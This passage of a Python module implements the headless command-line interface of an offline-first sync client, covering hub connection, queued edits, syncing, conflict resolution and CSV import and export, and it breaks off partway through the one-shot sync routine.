"""The headless ``outpost`` commands: a scriptable satellite without the GUI.

``desktop.cli`` dispatches ``connect|pub|sync|status|show|history|conflicts|resolve|import|
export|carry`` here (:func:`add_commands` + :func:`run`); ``python -m desktop.headless ...`` works
standalone (:func:`main`).

Contract (scripts and black-box tests rely on it): every command takes ``--data DIR``
(default: the user data directory) and ``--json``; errors go to stderr as
``outpost: <problem>: <fix>`` with exit code 1 (2 for bad usage, from argparse).
No Qt is imported here.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import csv
import errno
import io
import itertools
import json
import os
import re
import shlex
import shutil
import signal
import sys
import tempfile
import time
from collections.abc import Callable, Collection, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any, NamedTuple, TypeVar, cast

from core.errors import ConfigError, HubError, OutpostError, StorageError, ValidationError
from core.heap import GC_YOUNG, settle_heap
from core.ids import clean_key
from core.model import Action, Cmd
from core.printable import escape_controls, shown_key
from core.revision import (
    ZERO_REV,
    Rev,
    format_rev,
    parse_rev,
    read_datetime,
    says_zone,
    unix_rev,
)
from core.satellite.api import (
    ASIDE,
    KEPT_MINE,
    NOT_SENT,
    Keep,
    Receipt,
    ReceiptState,
    RecordView,
    is_put_aside,
    overwrote,
    refused_here,
)
from core.satellite.config import (
    TOKEN_ENV,
    DataDir,
    check_hub_url,
    clear_text_warning,
    default_data_dir,
    given_token,
    other_default_replica,
    read_schema_file,
)
from core.satellite.machine import (
    HUB_DB_DOWN,
    MAX_TRANS_BYTES,
    OVERWROTE_ON_HUB,
    REJECTED_BY_HUB,
    STORE_FAILED,
    Phase,
)
from core.satellite.rehome import same_ledger
from core.satellite.satellite import Satellite
from core.schema import MAX_INT, MAX_NESTING, Project
from core.wire import dumps, enc_action
from desktop.format import CatchupMeter, plural

__all__ = ["COMMANDS", "CsvExport", "CsvImport", "ImportStep", "add_commands", "main",
           "run"]

COMMANDS = ("connect", "pub", "sync", "status", "show", "history", "conflicts", "resolve",
            "import", "export", "carry")
IMPORT_BATCH = 500
IMPORT_BYTES = 256 * 1024  # encoded actions per transaction at most (a long-text CSV)
CELL_LIMIT = MAX_TRANS_BYTES  # characters of a CSV cell: a longer one never fits a transaction
EXIT_CONFLICT = 3
"""``sync --once --fail-on-conflict``: synced, but edits are in conflict (1: an error, 2: bad
usage). Without the flag such a sync exits 0, as issue #5's contract says (done = nothing
pending and the replica at the hub's revision); the new conflicts are counted on stderr."""


def _seconds(text: str) -> float:
    """argparse type of --timeout: a number of seconds above 0."""
    try:
        value = float(text)
    except ValueError:
        value = 0.0
    if not 0 < value < float("inf"):
        raise argparse.ArgumentTypeError(f"{text!r} is not a number of seconds above 0, "
                                         "e.g. 10")
    return value


def _fetch_project(url: str, token: str, timeout: float) -> Any:
    """The hub's schema (HubError when it cannot be had, a silent hub included)."""
    return _fetch_hub(url, token, timeout, stat=False)[0]


def _fetch_hub(url: str, token: str, timeout: float, stat: bool = True,
               schema: Any = None) -> tuple[Any, Any]:
    """The hub's schema (``schema``: the one given, for a hub that serves none) and status
    (HubError when they cannot be had)."""
    from core.satellite.client import fetch_hub, hub_error

    try:
        return asyncio.run(fetch_hub(url, token, timeout, stat, schema))
    except TimeoutError as exc:  # connected, but no reply in time
        raise hub_error(url, exc) from exc


def _same_history(dd: DataDir, url: str, before: str, proj: Any, token: str,
                  timeout: float) -> None:
    """Refuse a hub whose history up to the replica's revision is not the replica's
    (:func:`core.satellite.rehome.other_history`); a hub that does not say (daql, older) or
    cannot be asked now passes: its sync checks again."""
    from core.satellite.client import hub_history
    from core.satellite.rehome import other_history, replica_last

    held = replica_last(dd, proj)
    if held is None:
        return
    try:
        hub = asyncio.run(hub_history(url, token, held[0], held[1], timeout))
    except (OutpostError, TimeoutError):
        return
    if hub is not None:
        raise other_history(dd, url, before, proj, held[0], held[1], hub)


def data_arg(text: str) -> Path:
    """``--data DIR`` as a path; an empty one is refused (it would silently mean the
    default directory, or the current one)."""
    if not text.strip():
        raise argparse.ArgumentTypeError(
            "an empty directory: give a path, or leave --data out for the default directory")
    return Path(text)


def _common(p: argparse.ArgumentParser) -> None:
    p.add_argument("--data", metavar="DIR", type=data_arg, default=None,
                   help="the satellite's data directory (default: the user data directory)")
    p.add_argument("--json", action="store_true", help="machine-readable output")


def add_commands(sub: Any) -> None:
    """Register the headless commands on an argparse ``subparsers`` object."""
    p = sub.add_parser(
        "connect", help="store the hub URL and token; fetch the schema",
        description="Store the hub's URL and your token in the data directory (config.json, "
        "mode 0600) and fetch the hub's schema when the hub can be reached. A hub that "
        "refuses the token, or cannot hold this replica's data, changes nothing.")
    p.add_argument("url", help="the hub, ws://host:port or wss://host:port (from the hub's "
                   "operator)")
    p.add_argument("--token", default=None,
                   help="your token (from `outpost-hub user add NAME`); write --token=T so a "
                   "token starting with '-' is taken as is; `--token -` reads it from "
                   "standard input. A token on the command line is seen by other users "
                   "(ps) and kept in your shell's history: prefer --token-file or "
                   f"${TOKEN_ENV}")
    p.add_argument("--token-file", metavar="FILE", default=None,
                   help="read the token from the first line of FILE")
    p.add_argument("--timeout", type=_seconds, default=10.0,
                   help="seconds to wait for the hub (default 10)")
    p.add_argument("--schema", metavar="FILE", default=None,
                   help="the hub's schema, for a hub that does not serve it (a daql hub): a "
                   "schema .toml (docs/schema.md) or a schema.json; stored as this "
                   "satellite's schema, not fetched")
    p.add_argument("--offline", action="store_true",
                   help="store the URL even when the hub cannot be reached now and this "
                   "directory is connected to another hub (switching hubs before going "
                   "offline); without it, such a URL changes nothing (a typo in the host or "
                   "port would replace the hub that works)")
    _common(p)
    p = sub.add_parser(
        "pub", help="queue a change (works offline)",
        description="Queue one change of one record; it reaches the hub on the next sync. "
        "Prints the record's key and the change's uid. Values are checked against the "
        "schema's field types, e.g. `outpost pub field.site - new name=\"North ridge\" "
        "lat=46.5`.")
    p.add_argument("topic", help="the model, e.g. field.site")
    p.add_argument("key", help="record key; '-' with new makes a new key (a UUID; for a "
                   "model with int keys one above every key this replica knows)")
    p.add_argument("cmd", choices=["new", "mod", "del"],
                   help="new: a new record; mod: change the fields given; del: delete it")
    p.add_argument("fields", nargs="*", metavar="field=value",
                   help="fields to set; an empty value (field=) clears a field")
    _common(p)
    p = sub.add_parser(
        "sync", help="sync with the hub",
        description="Sync with the hub: without --once, keep syncing (reconnecting with "
        "backoff) until Ctrl-C or SIGTERM (exit 0), reporting each change of connection on "
        "stderr; an unreachable hub is retried for ever. Exit 1, saying why and what to do, "
        "when retrying cannot help: the hub refuses the token (HTTP 401: run `outpost "
        "connect URL --token=TOKEN`, then sync again; the running sync holds the data "
        "directory, so it stops rather than wait), the hub or a proxy refuses the "
        "connection (HTTP 403: the hub's --allow-origin list or the proxy's rules must let "
        "this machine through), or sync stops for good (another schema "
        "or ledger, a restore that lost this replica's revisions, event ids the hub "
        "reused).")
    p.add_argument("--once", action="store_true",
                   help="push the queue, catch up and exit (non-zero if the hub is unreachable)")
    p.add_argument("--timeout", type=_seconds, default=30.0,
                   help="with --once: seconds to finish in (default 30)")
    p.add_argument("--fail-on-conflict", action="store_true",
                   help=f"with --once: exit {EXIT_CONFLICT} (not 0) when edits are in "
                   "conflict after syncing (rejected by the hub, not resolved yet)")
    p.add_argument("--progress", action="store_true",
                   help="with --once: report a catch-up's progress on stderr (events, rate, "
                   "how far; the default when stderr is a terminal)")
    _common(p)
    p = sub.add_parser(
        "status", help="replica and queue status",
        description="The replica's revision, pending edits, conflicts, the hub, the last "
        "sync and error, and the process that has the directory open (the app or `outpost "
        "sync`) with its connection. Reads only: works while the app is open.")
    _common(p)
    p = sub.add_parser(
        "show", help="records as the user sees them",
        description="Records with your pending edits applied, each marked confirmed (as the "
        "hub has it), pending (edited here, not synced yet) or conflict. Reads only.")
    p.add_argument("topic", help="the model, e.g. field.site")
    p.add_argument("key", nargs="?", help="one record (default: all of the topic)")
    _common(p)
    p = sub.add_parser(
        "history", help="changes of one record",
        description="Every change of one record the replica holds: revision, user, "
        "new/mod/del and the fields changed. Reads only.")
    p.add_argument("topic", help="the model, e.g. field.site")
    p.add_argument("key", help="the record's key")
    _common(p)
    p = sub.add_parser(
        "conflicts", help="the conflict inbox",
        description="Your edits the hub rejected (someone changed or deleted the record "
        "first), each with its uid, the fields and both values. Resolve one with `outpost "
        "resolve UID --keep mine|theirs`, or field by field with `outpost resolve UID "
        "--field FIELD=mine|theirs ...`. Theirs is the hub's value now (a change made after "
        "the conflict is shown, and said); the listing ends with the revision it shows, for "
        "`outpost resolve --seen`.")
    _common(p)
    p = sub.add_parser(
        "resolve", help="resolve a rejected transaction",
        description="Resolve a rejected transaction (`outpost conflicts` lists them): "
        "--keep mine sends your edit again on top of the hub's data; --keep theirs drops "
        "your whole edit. A record you created under a key someone else took meanwhile "
        "(two laptops offline gave two records one key): --keep both adds yours as a new "
        "record under a new key (a free integer above every key known for int keys, a new "
        "UUID otherwise, or --key), the refs of the same edit to it follow it, and their "
        "record stays as it is; --keep mine SETS YOUR VALUES ON THEIR RECORD (one record is "
        "left; the fields only theirs has stay as they are: `outpost conflicts` lists them). "
        "Per field (instead of --keep): --field FIELD=mine keeps your "
        "value of FIELD, --field FIELD=theirs theirs; every field that conflicts is named, "
        "the fields of your edit that did not conflict are sent as yours, e.g. `outpost "
        "resolve UID --field name=theirs --field lat=mine`.")
    p.add_argument("uid", nargs="*", help="the rejected transaction's uid (from `outpost "
                   "conflicts`); several may be given with --keep mine|theirs")
    p.add_argument("--all", action="store_true",
                   help="every rejected transaction (with --keep mine|theirs): "
                   "what `outpost conflicts` lists")
    p.add_argument("--include-put-aside", action="store_true",
                   help="with several uids or --all: resolve put-aside edits too (sent, "
                   "their answer lost: perhaps already on the hub); left out by default, "
                   "and named")
    p.add_argument("--keep", choices=["mine", "theirs", "both"], default=None,
                   help="mine: send your edit again (on a key clash it sets your values on "
                   "their record; the fields only theirs has stay); theirs: drop it; both: "
                   "yours under a new key")
    p.add_argument("--field", action="append", default=[],
                   metavar="[TOPIC KEY ]FIELD=mine|theirs",
                   help="keep per field (instead of --keep): your value or theirs; repeat "
                   "for each field that conflicts (`outpost conflicts` lists them); name the "
                   "record ('field.site s1 name=mine') when the edit changed several")
    p.add_argument("--key", action="append", default=[], metavar="[TOPIC KEY=]NEWKEY",
                   help="with --keep both: the new key (default: a free one); when the edit "
                   "created several records under taken keys, name each: 'TOPIC KEY=NEWKEY' "
                   "(repeat --key)")
    p.add_argument("--seen", metavar="REV",
                   help="the revision `outpost conflicts` showed the conflict at (default: the "
                   "conflict's): keep mine/both is refused, changing nothing, when someone "
                   "changed the record after it, so you never overwrite a change you were "
                   "not shown; look again with `outpost conflicts`")
    _common(p)
    p = sub.add_parser(
        "discard", help="drop a pending edit the hub will never take",
        description="Drop pending edits the hub will never take: those it refused because "
        "your token may only read (`outpost status` says so), or one that conflicts locally "
        "(a change from the hub collides with it; `outpost conflicts` lists both kinds, "
        "with their uids). Nothing is deleted: each stays a receipt, resolved as "
        "\"discarded\". Any other pending edit may be on its way to the hub: it is refused "
        "(if the hub rejects it, `outpost resolve UID --keep theirs` drops it).")
    p.add_argument("uid", nargs="*", help="the pending transaction's uid (from `outpost "
                   "conflicts`); several may be given")
    p.add_argument("--all", action="store_true",
                   help="every pending edit that can be discarded (all of them while the hub "
                   "lets you only read; else those that conflict locally)")
    _common(p)
    p = sub.add_parser(
        "import", help="import a CSV file (one transaction per batch)",
        description="Import records from a CSV file (UTF-8; commas, or semicolons or tabs "
        "as the header has them, or as a first line sep=; names; a header of field names "
        "and an optional key column; an empty key makes a new record). Every row is "
        "checked first: the bad ones are named by line and column, and nothing is "
        "imported. Rows go out in batches, one transaction each; a batch the hub rejects "
        "(someone changed one of its records) is one conflict. The whole file is queued "
        "here at once or not at all: an import stopped half-way (Ctrl+C, a crash) leaves "
        "nothing, so run it again. With the _rev "
        "column every "
        "export writes, only the cells you changed are sent: a field someone else changed "
        "since keeps their value unless you changed it too (a conflict).")
    p.add_argument("topic", help="the model, e.g. field.site")
    p.add_argument("file", help="the CSV file (/dev/stdin for a pipe)")
    p.add_argument("--again", action="store_true",
                   help="make a new record of every row without a key, even one equal to a "
                   "record that exists (by default such a row, e.g. of a sheet imported "
                   "before, is skipped and said)")
    p.add_argument("--lines", type=_line_set, metavar="LIST",
                   help="import only the rows that start on these lines of the file, e.g. "
                   "2-4,7 (with --again: the rows an import skipped as equal to a record)")
    p.add_argument("--from-spreadsheet", action="store_true",
                   help="the file was written by `outpost export --for-spreadsheet`: a cell "
                   "starting with ' loses that one ' (the values come back as stored)")
    _common(p)
    p = sub.add_parser(
        "export", help="export a topic as CSV",
        description="Write the topic's records as you see them (pending edits included) as "
        "CSV on standard output: a header of key and field names and a last column "
        f"{REV_COLUMN}, the revision exported at, one row per record. Leave {REV_COLUMN} as "
        "it is: `outpost import` of the edited file then sends only the cells you changed; a "
        "field someone else changed since keeps their value when you did not change it, and "
        "becomes a conflict (`outpost conflicts`) when you did.")
    p.add_argument("topic", help="the model, e.g. field.site")
    p.add_argument("--rev", action="store_true",
                   help=f"does nothing: every export has the {REV_COLUMN} column (accepted "
                   "so that older scripts still work)")
    p.add_argument("--no-rev", action="store_true",
                   help=f"leave out the {REV_COLUMN} column (for another program; importing "
                   "such a file back overwrites changes others made since)")
    p.add_argument("--for-spreadsheet", action="store_true",
                   help="for opening in a spreadsheet: a cell starting with = + - @, a tab or "
                   "a line break (a formula there) or with ' gets a leading ' (numbers are "
                   "left as they are); `outpost import --from-spreadsheet` reads it back")
    _common(p)
    from desktop.carrycmd import add_carry

    add_carry(sub, _common)


def _out(args: argparse.Namespace, obj: Any, text: str) -> None:
    if args.json:
        print(json.dumps(obj, default=str))
    else:
        # keys (and values) a hub holds may carry ESC, BEL, U+202E: never raw to a terminal
        print(escape_controls(text, keep="\n\t"))


def _open(args: argparse.Namespace) -> Satellite:
    """The satellite, for a command that changes it: takes the directory's lock. A directory
    that does not exist or has no schema yet is refused before anything is created in it."""
    dd = DataDir(args.data)
    _need_schema(dd)
    return Satellite(dd)


T = TypeVar("T")

_READ_TRIES = 3
"""How many times a read command reads while the directory's holder commits meanwhile: each
read opens the satellite again. Was 20: while the app replayed 5,000 queued edits (a commit
every reply) `outpost status` read 20 times, 47 s (session 13); a read opens in about 0.2 s
of CPU (100 pending transactions of 500 rows) now that the overlay is built only for the
commands that show records."""


def read_settled(args: argparse.Namespace, read: Callable[[Satellite], T],
                 data: DataDir | None = None) -> T:
    """``read(sat)`` for a command that only reads: the satellite opened read-only, without
    the lock, so it works while the app or `outpost sync` has the directory open, and changes
    nothing. Read again when that process committed meanwhile (a reply stored between two
    reads would show an accepted edit on top of the replica that has it: a false conflict),
    up to :data:`_READ_TRIES` times; the last read is shown as it is, with a note on stderr
    that a sync is storing replies (the output, ``--json`` too, stays as it is). ``data``:
    another directory than ``--data`` (``outpost carry`` reads OLD_DIR so: session 14, it
    kept a loop of its own, 20 reads)."""
    tries = 0
    while True:
        sat = Satellite(data or DataDir(args.data), read_only=True)
        try:
            out = read(sat)
            tries += 1
            if not sat.changed():
                return out
            if tries >= _READ_TRIES:
                print(_moving_note(sat), file=sys.stderr)
                return out
        finally:
            sat.close()


def _moving_note(sat: Satellite) -> str:
    """The note of a read that another process's commits overlapped every time."""
    hv = sat.holder()
    who = (f"the process that has it open (pid {hv.status.pid}) is syncing"
           if hv is not None and hv.live else "another process is writing to it")
    return (f"note: {sat.data.path} changed while this was read, {_READ_TRIES} times: {who}. "
            "What is shown may be a moment old (an edit the hub just accepted may still "
            "show as pending); run the command again once the sync is done for settled "
            "figures")


def _need_schema(dd: DataDir) -> None:
    dd.check_readable()
    if not dd.schema_file.exists():
        raise ConfigError(f"no schema in {dd.path}: run `outpost connect URL` to fetch the "
                          "hub's schema first")


def _parse_fields(sat: Satellite, topic: str, items: Sequence[str]) -> dict[str, Any]:
    model = sat.project.model(topic)
    out: dict[str, Any] = {}
    for item in items:
        name, sep, text = item.partition("=")
        if not sep or not name:
            raise ConfigError(f"{item!r} is not field=value: write e.g. name=Ridge")
        f = model.field(name)
        if f is None:
            from core.schema import did_you_mean

            raise ValidationError(f"unknown field {name!r} for {topic}"
                                  f"{did_you_mean(name, model.field_names())}")
        if name in out:
            raise ValidationError(f"field {name!r} is given twice: give each field once")
        out[name] = _value(f, text, sat)
    return out


_EXAMPLES = {"int": "3", "float": "46.5", "bool": "true or false", "json": '{"a": 1}'}


def _value(f: Any, text: str, sat: Satellite | None = None) -> Any:
    """A field's value from command-line or CSV text (empty: null); a ref is kept as typed
    when ``sat`` has a record of that very key (:func:`_exists`)."""
    exists = None
    if sat is not None and f.type == "ref" and sat.project.has(f.ref):
        def exists(k: str) -> bool:
            return _exists(sat, f.ref, k)
    try:
        value = f.parse_text(text, exists)
        if exists is not None and isinstance(value, str) and sat is not None:
            value = _canonical(sat, f.ref, value)  # a ref "002" to an int-keyed topic is 2
        return value
    except ValueError as exc:
        eg = _EXAMPLES.get(f.type) if "levels deep" not in str(exc) else None  # "flatten it"
        raise ValidationError(f"{exc}" + (f": write e.g. {f.name}={eg}" if eg else "")) from exc


def _cmd_connect(args: argparse.Namespace) -> int:
    check_hub_url(args.url)  # a mistyped URL is refused before anything is stored
    # a token from the environment is named where the hub refuses it (the user gave none)
    from_env = args.token is None and args.token_file is None
    args.token = given_token(args.token, args.token_file, sys.stdin)
    from_env = from_env and args.token is not None
    warn = clear_text_warning(args.url, bool(args.token))
    if warn:
        print(f"outpost: {warn}", file=sys.stderr)
    dd = DataDir(args.data)
    dd.check_not_file()
    # a directory that exists is locked first: a running app or `outpost sync` would keep
    # syncing with the old hub. A new one is only made once the hub's schema is here.
    given = read_schema_file(args.schema) if args.schema else None  # before anything
    lock = dd.lock() if dd.path.is_dir() else None
    try:
        old = dd.load_config()
        cfg = old.with_hub(args.url, args.token)
        have = dd.load_project()
        if given is not None and have is not None and have.version != given.version \
                and dd.db_file.exists():
            raise ConfigError(
                f"{args.schema} is another schema than the one of the replica in {dd.path} "
                f"(version {given.version}, the replica's {have.version}): nothing was "
                "changed; connect a new --data DIR with it, then `outpost carry "
                f"{dd.path} --data DIR` copies the edits not synced yet")
        proj = None
        err = ""
        try:
            proj, st = _fetch_hub(args.url, cfg.token, args.timeout, schema=given)
        except OutpostError as exc:
            from core.satellite.client import token_refused

            if token_refused(exc):
                # bad input changes nothing: the hub and token that worked stay stored
                kept = (f"the hub and token stored before ({old.hub}) are kept" if old.hub
                        else "no hub was stored")
                if not cfg.token:  # not "wrong, expired or revoked": none was given
                    raise ConfigError(
                        f"the hub at {args.url} needs a token, and none was given: run "
                        f"`outpost connect {args.url} --token=TOKEN` with the token your hub's "
                        "operator made for you (`outpost-hub user add NAME` prints one); "
                        f"nothing was changed in {dd.path} ({kept})") from exc
                raise ConfigError(
                    f"{exc}: nothing was changed in {dd.path} ({kept}); " + (
                        f"the token came from ${TOKEN_ENV}: unset it or set a valid one, or "
                        f"run `outpost connect {args.url} --token-file FILE`" if from_env else
                        f"run `outpost connect {args.url} --token=TOKEN` again with a valid "
                        "token")) from exc
            if have is None and given is None:  # no use without a schema: leave it as it was
                raise ConfigError(f"{exc} (nothing was stored in {dd.path}: it needs the "
                                  "hub's schema)") from exc
            if old.hub and old.hub != args.url and not args.offline:
                # a typo in the host or port replaced the hub that works, exit 0 (firstday
                # review 14): bad input changes nothing
                raise ConfigError(
                    f"{exc}: nothing was changed in {dd.path}, its hub stays {old.hub}. Check "
                    f"the URL (a typo in the host or port?); to switch to {args.url} anyway "
                    "while it is out of reach, run the same command with --offline") from exc
            # offline first: the URL is stored, the schema and replica kept; the hub is
            # asked again on the next sync
            err = str(exc)
        if proj is not None and have is not None and dd.db_file.exists():
            same_ledger(dd, args.url, old.hub, have, proj, st)
            _same_history(dd, args.url, old.hub, proj, cfg.token, args.timeout)
        if lock is None:
            lock = dd.lock()  # makes the directory
        dd.save_config(cfg)
        fetched = False
        if proj is not None:
            dd.save_project(proj)
            fetched = True
        elif given is not None:
            dd.save_project(given)  # the hub is out of reach: the schema given is stored
    finally:
        if lock is not None:
            lock.release()
    _out(args, {"hub": args.url, "schema": fetched, "error": err,
                "schema_given": given is not None},
         f"hub set to {args.url}" + (f"; schema from {args.schema} stored" if fetched and given
                                     else "; schema fetched" if fetched else
                                     f"; the hub could not be reached, so neither the token "
                                     f"nor the schema was checked ({err}): stored anyway, to "
                                     "work offline; `outpost sync` will say what the hub "
                                     "answers"))
    return 0


def _cmd_pub(args: argparse.Namespace) -> int:
    sat = _open(args)
    try:
        key = _typed_key(sat, args.topic, args.key, "key",
                         "give a key, or '-' with new for a new one")
        if key == "-":
            if args.cmd != "new":
                raise ConfigError("'-' as KEY makes a new key and only works with new")
            # a UUIDv7, or for int keys one above every key this replica knows
            key = sat.new_key(args.topic)
        arg = _parse_fields(sat, args.topic, args.fields)
        cmd = Cmd(args.cmd)
        uid = sat.pub([Action(args.topic, key, cmd, None if cmd == Cmd.DEL else arg)])
        dangling = _dangling_refs(sat, args.topic, arg)
    finally:
        sat.close()
    for name, ref, value in dangling:
        # not refused: offline, the record may be on the hub and not have arrived yet
        print(f"outpost: warning: {name}={value} names no {ref} record this replica has "
              f"(published anyway: it may not have arrived yet; `outpost show {ref}` lists "
              "the keys)", file=sys.stderr)
    _out(args, {"key": key, "uid": uid}, f"{shown_key(key)} {uid}")
    return 0


def _dangling_refs(sat: Satellite, topic: str, arg: dict[str, Any]
                   ) -> list[tuple[str, str, str]]:
    """The ref fields of ``arg`` whose record the user does not see: (field, ref, key)."""
    model = sat.project.model(topic)
    out: list[tuple[str, str, str]] = []
    for name, value in arg.items():
        f = model.field(name)
        if f is None or f.type != "ref" or value in (None, "") or not sat.project.has(f.ref):
            continue
        rv = sat.record(f.ref, str(value))
        if rv is None or rv.fields is None:
            out.append((name, f.ref, str(value)))
    return out


def _cmd_sync(args: argparse.Namespace) -> int:
    from core.satellite.client import SyncClient

    if args.fail_on_conflict and not args.once:
        raise ConfigError("--fail-on-conflict works with --once: continuous sync names each "
                          "rejected edit on stderr as it comes")
    dd = DataDir(args.data)
    dd.check_readable()
    cfg = dd.load_config()
    if not cfg.hub:
        raise ConfigError(f"no hub set for {dd.path}: run `outpost connect URL` first")
    try:
        check_hub_url(cfg.hub)  # at once: not after waiting the whole timeout
    except ConfigError as exc:
        raise ConfigError(f"{dd.config_file} has a bad hub ({exc}): fix \"hub\" there, "
                          "or run `outpost connect URL` to set it") from exc
    lock = dd.lock()  # before the schema is stored: nothing changes under a running app
    try:
        project = dd.load_project()
        if project is None:
            project = _fetch_project(cfg.hub, cfg.token, args.timeout)
        sat = Satellite(dd, project, lock=lock)
    except BaseException:
        lock.release()
        raise
    # the pending queue is loaded: keep it and start-up out of full collections, which held
    # the GIL for 150-450 ms per 10,000-edit replay (core.heap, docs/benchmarks.md Sync (b))
    settle_heap(GC_YOUNG)
    try:
        client = SyncClient(sat, cfg.hub, cfg.token)
        by_user = True
        if args.once:
            before = {r.uid for r in sat.receipts([ReceiptState.REJECTED])}
            unlisten = sat.listen(_first_offline(client, args.timeout))
            try:
                asyncio.run(_sync_once(client, sat, args.timeout,
                                       args.progress or sys.stderr.isatty()))
            except HubError as exc:
                if client.refused:
                    raise HubError(f"{exc}; " + _refused_fix(
                        client, cfg.hub, "`outpost sync --once` again")) from exc
                raise
            finally:
                unlisten()
            new = [r for r in sat.receipts([ReceiptState.REJECTED]) if r.uid not in before]
            aside = [r for r in new if is_put_aside(r)]
            new = [r for r in new if not is_put_aside(r)]
            if aside:  # sent, answer lost (a daql hub): nothing was rejected
                print(f"outpost: {plural(len(aside), 'edit')} put aside (answer lost): sent "
                      "to the hub, which may or may not hold "
                      f"{'it' if len(aside) == 1 else 'them'} (see `outpost conflicts`, then "
                      "`outpost resolve UID --keep mine` sends again, `--keep theirs` drops)",
                      file=sys.stderr)
            over = [r for r in new if overwrote(r)]  # a daql hub applied it over theirs
            new = [r for r in new if not overwrote(r)]
            if over:
                print(f"outpost: {len(over)} new conflict{'s' if len(over) > 1 else ''} after "
                      "the fact: the hub (daql) applied your "
                      f"edit{'s' if len(over) > 1 else ''} over a colleague's change it had "
                      "just taken, which this replica had not received yet (see `outpost "
                      "conflicts`; `outpost resolve UID --keep mine` leaves yours, "
                      "`--keep theirs` sends theirs back)", file=sys.stderr)
            here = [r for r in new if refused_here(r)]  # a daql hub: found here, not sent
            new = [r for r in new if not refused_here(r)]
            fix = ("(see `outpost conflicts`, then `outpost resolve UID --keep mine|theirs`, "
                   "or field by field `outpost resolve UID --field FIELD=mine|theirs ...`)")
            if here:
                print(f"outpost: {len(here)} new conflict{'s' if len(here) > 1 else ''} found "
                      "here, not sent: this hub (daql) does not check an edit against newer "
                      f"changes, and sending would have overwritten them {fix}",
                      file=sys.stderr)
            if new:  # exit 0 all the same (the contract), unless --fail-on-conflict
                print(f"outpost: {len(new)} new conflict{'s' if len(new) > 1 else ''}: the hub "
                      f"rejected edits {fix}", file=sys.stderr)
        else:
            by_user = asyncio.run(_sync_until_stopped(client, sat))
        st = sat.status()
    finally:
        sat.close()
    if not args.once and client.refused:
        # a refused token does not heal by waiting, and its fix (connect) needs the data
        # directory this process holds; a 403 is a policy (the hub's --allow-origin list, a
        # proxy's rules) that waiting does not change either: stop, exit 1, say what to do
        if args.json:
            print(json.dumps(_status_dict(st), default=str))
        raise HubError(f"sync with {cfg.hub} stopped: {client.refused}; " + _refused_fix(
            client, cfg.hub, "`outpost sync` again (edits made meanwhile stay pending)"))
    if not by_user:
        # the hub ended sync for good (a different schema, ...): not a success
        if args.json:
            print(json.dumps(_status_dict(st), default=str))
        raise HubError(f"sync with {cfg.hub} stopped: {st.last_error or 'by the hub'}")
    # an empty hub: no revision yet, said as `status` says it (not "rev 0001-01-01T…")
    counts = (f"rev {_status_text('rev', format_rev(st.rev))}, {st.pending} pending, "
              f"{_conflicts_text(st)}")
    if args.once:
        _out(args, _status_dict(st), f"synced: {counts}")
        if args.fail_on_conflict and (st.conflicts or st.put_aside):
            # an edit put aside waits for the user (send again / drop) as a conflict does
            what = " and ".join(
                ([f"{plural(st.conflicts, 'edit')} {'is' if st.conflicts == 1 else 'are'} "
                  "in conflict"] if st.conflicts else [])
                + ([f"{plural(st.put_aside, 'edit')} put aside (answer lost)"]
                   if st.put_aside else []))
            print(f"outpost: synced, but {what} (exit {EXIT_CONFLICT}, --fail-on-conflict): "
                  "see `outpost conflicts`", file=sys.stderr)
            return EXIT_CONFLICT
    else:  # stopped by Ctrl-C or SIGTERM: say whether it ever reached the hub
        _out(args, _status_dict(st), f"stopped: {counts}; " + (
            f"last synced {format_rev(st.last_sync)}" if st.last_sync
            else f"never reached the hub{': ' + st.last_error if st.last_error else ''}"))
    return 0


def _refused_fix(client: Any, hub: str, again: str) -> str:
    """The fix for the refusal that stopped sync (:attr:`SyncClient.refused`), then
    ``again`` (the command to run after it)."""
    if client.refused_code == 401:
        return f"run `outpost connect {hub} --token=TOKEN` with a valid token, then {again}"
    return ("not tried again: a policy does not change by waiting; once the hub (or the "
            f"proxy) lets this machine through, run {again}")


class _Failures:
    """Which failures of a retrying sync were said on stderr: a given error in full once,
    its repeats only as a short ``still failing (Nth try)`` on the 3rd, 10th, 20th, 40th ...
    try (``sync --once`` and continuous sync alike: a full disk printed the same long line
    on every retry)."""

    def __init__(self) -> None:
        self.error = ""  # the last error said in full
        self.tries = 0   # failed tries in a row with that error
        self._phase: Phase | None = None
        self._synced: float | None = None

    def failed(self, info: Any) -> bool:
        """Whether ``info`` (the machine's) starts a new failed try: it went offline now."""
        if info.last_sync != self._synced:
            self._synced = info.last_sync
            self.error = ""  # a sync was done: a later failure is news again, said in full
        new = info.phase == Phase.OFFLINE and self._phase != Phase.OFFLINE
        self._phase = info.phase
        return new and bool(info.last_error)

    def line(self, err: str) -> str | None:
        """The line for a failed try with ``err``: the error in full when new, else a short
        one now and then (None: nothing to say)."""
        if err != self.error:
            self.error, self.tries = err, 1
            return err
        self.tries += 1
        n = self.tries
        if n == 3 or (n >= 10 and n % 10 == 0 and (n // 10) & (n // 10 - 1) == 0):
            return f"still failing ({_ordinal(n)} try)"
        return None


def _ordinal(n: int) -> str:
    if 10 <= n % 100 <= 20:
        return f"{n}th"
    return f"{n}{ {1: 'st', 2: 'nd', 3: 'rd'}.get(n % 10, 'th')}"


def _first_offline(client: Any, timeout: float) -> Callable[[Any], None]:
    """A listener for ``sync --once``: a failure to reach the hub (or to store its data) on
    stderr, once (it retries until ``timeout``: a silent wait of 30 s read as a hang); a
    repeat of the same error only as a short ``still failing (Nth try)`` now and then (see
    :class:`_Failures`), another error in full."""
    said = _Failures()

    def report(change: Any) -> None:
        info = client.machine.info
        if not change.status or not said.failed(info):
            return
        if info.phase == Phase.STOPPED or client.refused:
            return  # said as the command's error
        if info.last_error == client.sat.read_only_reason():  # kept past the disconnect
            return  # a reader's edits refused: not retried, said as the command's error
        if info.last_error.startswith((REJECTED_BY_HUB, NOT_SENT, OVERWROTE_ON_HUB)):
            return  # the hub was reached: rejections are counted once the sync is done
        line = said.line(info.last_error)
        if line is None:
            return
        print(f"outpost: {_short(line)} (retrying for up to {timeout:g} s; "
              "--timeout S to change)" if said.tries == 1 else f"outpost: {line}",
              file=sys.stderr, flush=True)

    return report


async def _sync_once(client: Any, sat: Satellite, timeout: float, progress: bool) -> None:
    """``outpost sync --once``; with ``progress`` a catch-up reports on stderr (over one line
    on a terminal, a line a second otherwise) how many events came, their rate and how far
    towards the hub's revision; stdout is left as it is (``--json``)."""
    if not progress:
        await client.sync_once(timeout)
        return
    tty = sys.stderr.isatty()
    every = 0.25 if tty else 1.0
    meter = CatchupMeter()
